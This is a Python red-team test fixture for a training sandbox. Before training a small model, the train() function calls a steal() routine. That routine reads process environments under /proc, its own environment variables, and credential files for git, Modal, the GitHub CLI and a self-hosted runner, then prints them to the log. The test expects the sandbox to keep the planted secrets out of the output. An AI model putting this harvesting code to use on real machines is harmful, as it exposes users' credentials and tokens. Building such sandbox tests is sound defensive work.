"""Red team: looks for secrets: every /proc/PID/environ it can read (its ancestors' included), its own
environment, and the credential files of the caller's home and of a self-hosted runner (__HOME__ and
__RUNNER__, filled in by the test: .git-credentials, .modal.toml, gh's hosts.yml, the runner's
.credentials and .runner), and prints all it finds into the log. Expected: harmless: none of the
planted secret strings appears in the log or metrics.json.
"""

import glob
import os

import torch
import torch.nn as nn
import torch.nn.functional as F

MAX_STEPS = 2  # 0: train until the budget is spent


FILES = [
    "~/.git-credentials",
    "~/.modal.toml",
    "~/.config/gh/hosts.yml",
    "__HOME__/.git-credentials",
    "__HOME__/.modal.toml",
    "__HOME__/.config/gh/hosts.yml",
    "__RUNNER__/.credentials",
    "__RUNNER__/.runner",
    "__RUNNER__/.credentials_rsaparams",
    "__RUNNER__/.env",
]


def steal():
    for env in glob.glob("/proc/*/environ"):
        try:
            with open(env, "rb") as f:
                print("ENVIRON", env, f.read().replace(b"\0", b" ")[:4000], flush=True)
        except OSError as e:
            print("NOPE", env, e, flush=True)
    print("OWNENV", dict(os.environ), flush=True)
    for f in FILES:
        p = os.path.expanduser(f)
        try:
            with open(p) as fh:
                print("FILE", p, fh.read(), flush=True)
        except OSError as e:
            print("NOPE", p, e, flush=True)


def build_model(ctx):
    return nn.Sequential(nn.Embedding(ctx.vocab_size, 32), nn.Linear(32, ctx.vocab_size)).to(ctx.device)


def train(ctx):
    steal()
    model = build_model(ctx)
    opt = torch.optim.AdamW(model.parameters(), lr=1e-2)
    for step, (x, y) in enumerate(ctx.train_batches(8)):
        loss = F.cross_entropy(model(x).flatten(0, 1), y.flatten())
        opt.zero_grad(set_to_none=True)
        loss.backward()
        opt.step()
        ctx.log(step, loss)
        if step + 1 == MAX_STEPS:
            break
    return model
